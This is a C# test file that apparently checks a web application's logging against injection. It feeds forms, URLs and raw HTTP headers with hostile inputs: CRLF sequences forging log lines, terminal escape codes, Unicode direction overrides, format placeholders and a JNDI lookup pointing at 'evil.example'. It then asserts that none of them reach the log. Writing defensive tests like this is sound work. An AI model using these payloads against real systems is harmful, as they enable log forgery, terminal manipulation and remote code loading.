using Ledgerline.Attacks.Filling;
using Ledgerline.Attacks.Ground;
using Ledgerline.Storage;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace Ledgerline.Attacks.Injecting;

/// <summary>Line ends and a terminal's commands in what is typed and asked for: nothing of it comes into the log, neither as it is nor in any other form.</summary>
public sealed class LogTests
{
    private const string Mark = "pwn";

    /// <summary>A line of its own; a title and a wiped screen (ECMA-48); another direction of writing; a line end of Unicode's.</summary>
    private static readonly string[] Lines = ["pwn\r\ninfo: Ledgerline[0] All is well", "pwn\u001b]0;evil\u0007\u001b[2J", "pwn\u202Elive", "pwn\u2028info: x", "pwn\u009b31m", "pwn%0d%0aevil", "${jndi:ldap://evil.example/pwn}", "{pwn}{0}"];

    [Fact]
    public async Task NothingThatIsTyped_OrAskedFor_ComesIntoTheLog()
    {
        using var listener = new Listener();
        await using var ground = await TwoCentres.OpenAsync(DatabaseEngine.Sqlite, services => services.AddLogging(logging => logging.AddProvider(listener)));
        var turn = 0;
        await foreach (var seen in new FormWalk(ground, (_, _, _) => Lines[turn++ % Lines.Length], Mark).WalkAsync())
            seen.Answer.Status.ShouldBeLessThan(500, seen.By);
        await foreach (var seen in new AddressWalk(ground, place => Lines[place % Lines.Length]).WalkAsync())
            seen.Answer.Status.ShouldBeLessThan(500, seen.By);
        foreach (var header in (string[])["User-Agent", "Referer", "Cookie", "Accept-Language", "X-Forwarded-For", "RequestVerificationToken", "Content-Type", "Range", "If-None-Match", "Authorization"])
            await RawRequest.SendAsync(ground.System.Url, $"POST /sign-in HTTP/1.1\r\nHost: {ground.System.Url.Authority}\r\nConnection: close\r\n{header}: pwn\u001b[2J\tpwn\u009b\r\nContent-Length: 3\r\n\r\npwn");
        await RawRequest.SendAsync(ground.System.Url, "GET /pwn\u001b[2J HTTP/1.1\r\nHost: pwn\u001b\r\n\r\n");

        listener.Lines.Where(line => line.Contains(Mark, StringComparison.Ordinal) || line.Contains('\u001b', StringComparison.Ordinal)).ShouldBeEmpty();
        listener.Lines.Where(line => line.Contains("evil.example", StringComparison.Ordinal)).ShouldBeEmpty();
        // It was listening.
        ground.System.Services.GetRequiredService<ILoggerFactory>().CreateLogger("Ledgerline.Attacks").LogWarning("Heard.");
        listener.Lines.ShouldContain("Warning Ledgerline.Attacks: Heard. ");
    }
}
